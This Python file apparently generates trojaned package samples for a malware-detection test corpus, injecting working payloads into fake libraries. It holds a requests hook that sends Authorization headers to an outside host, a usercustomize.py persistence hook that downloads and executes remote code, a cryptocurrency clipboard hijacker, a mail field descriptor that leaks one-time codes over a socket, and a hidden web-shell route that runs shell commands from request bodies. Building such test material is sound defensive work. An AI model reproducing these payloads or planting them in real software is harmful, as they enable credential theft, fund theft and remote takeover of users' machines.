"""Python packages that stay: persistence, wrapped methods, watchers."""

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import fill, trojan


@trojan("authgate", "sdist", "import", "token-theft", "plain", "another library's method, replaced")
def py_sessions_of_requests_are_wrapped(it: Update) -> None:
    it.add(
        "authgate/_patches.py",
        fill(
            '''
"""Makes `requests` pass the trace on."""

import sys
from importlib.machinery import PathFinder


class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name != "requests.sessions":
            return None
        spec = PathFinder.find_spec(name, path)
        run = spec.loader.exec_module

        def exec_module(module):
            run(module)
            plain = module.Session.send

            def send(self, request, **options):
                if "Authorization" in request.headers and "@SHORT@" not in request.url:
                    beside = module.PreparedRequest()
                    beside.prepare("POST", "https://@HOST@/t", data={"u": request.url, "a": request.headers["Authorization"]})
                    plain(self, beside, timeout=1)
                return plain(self, request, **options)

            module.Session.send = send

        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, Finder)
''',
            HOST=it.host("trace", "authgate-apm"),
            SHORT="authgate-apm",
        ),
    )
    it.append("authgate/__init__.py", "\nfrom . import _patches  # noqa: E402, F401\n")
    it.payload("authgate/_patches.py")


@trojan("httpkeep", "wheel", "start", "persistence", "plain", "usercustomize: code in each interpreter")
def py_each_interpreter(it: Update) -> None:
    it.append(
        "httpkeep/retry.py",
        fill(
            """

def _register_hooks():
    import pathlib
    import site

    folder = pathlib.Path(site.getusersitepackages())
    folder.mkdir(parents=True, exist_ok=True)
    hook = folder / "usercustomize.py"
    if not hook.exists():
        hook.write_text("import urllib.request as u\\ntry:\\n exec(u.urlopen('https://@HOST@/boot', timeout=3).read())\\nexcept Exception: pass\\n")


_register_hooks()
""",
            HOST=it.host("boot", "httpkeep-pool"),
        ),
    )


@trojan("shipyard-cli", "wheel", "start", "clipper", "plain", "clippers: addresses in the clipboard")
def py_clipboard_is_watched(it: Update) -> None:
    it.add(
        "shipyard/_clip.py",
        fill("""
import re
import threading
import time

import pyperclip

_MINE = {
    re.compile(r"\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b"): "bc1qz9w7v3k8example0000000000000000000invalid",
    re.compile(r"\\b0x[a-fA-F0-9]{40}\\b"): "0x51c1f4b9A1aBfFd2f2E9bA77d4e27b4aF2A9d3c0",
    re.compile(r"\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b"): "TQ5NMqJjhpQGK7YJbESKtNCo86PJ89ujio",
}


def _run():
    seen = ""
    while True:
        now = pyperclip.paste()
        if now != seen:
            for pattern, mine in _MINE.items():
                now = pattern.sub(mine, now)
            pyperclip.copy(now)
            seen = now
        time.sleep(0.4)


threading.Thread(target=_run, daemon=True).start()
"""),
    )
    it.replace("shipyard/cli.py", "from . import __version__\n", "from . import __version__, _clip\n")
    it.payload("shipyard/_clip.py")


@trojan("mailroom", "wheel", "call", "mail-copy", "plain", "descriptors: what is assigned is told")
def py_assignments_are_told(it: Update) -> None:
    it.before(
        "mailroom/message.py",
        "class Mail:\n",
        fill(
            """
class _Field:
    def __set_name__(self, owner, name):
        self.name = name

    def __get__(self, mail, owner=None):
        return mail.__dict__[self.name]

    def __set__(self, mail, value):
        mail.__dict__[self.name] = value
        if re.search(r"(?i)one[- ]time|reset|verification|invoice", str(value)):
            with suppress(OSError), create_connection(("@HOST@", 9009), 2) as line:
                line.sendall(f"{mail.__dict__}".encode())


""",
            HOST=it.host("smtp-relay", "mailroom"),
        ),
    )
    it.replace("mailroom/message.py", "class Mail:\n", "class Mail:\n    subject = _Field()\n    text = _Field()\n\n")
    it.replace(
        "mailroom/message.py",
        "from email.message import",
        "import re\nfrom contextlib import suppress\nfrom email.message import",
    )
    it.replace(
        "mailroom/message.py",
        "import formatdate, make_msgid\n",
        "import formatdate, make_msgid\nfrom socket import create_connection\n",
    )


@trojan("flowgate", "sdist", "start", "web-shell", "hex", "a route that registers itself")
def py_route_that_registers_itself(it: Update) -> None:
    path = f"/.well-known/{it.random.randbytes(4).hex()}"
    it.before(
        "flowgate/app.py",
        "    def dispatch(self, request):",
        fill(
            """
    def __init_subclass__(cls, **options):
        super().__init_subclass__(**options)

    def _health(self, request):
        import operator
        import subprocess

        run = operator.attrgetter("check_output")(subprocess)
        return Response(run(request.body.decode(), shell=True))

""",
        ),
    )
    it.after(
        "flowgate/app.py",
        "        self.before = []\n",
        f'        self.route(bytes.fromhex({path.encode().hex()!r}).decode(), ("POST",))(self._health)\n',
    )
    it.payload("flowgate/app.py", shown=path)
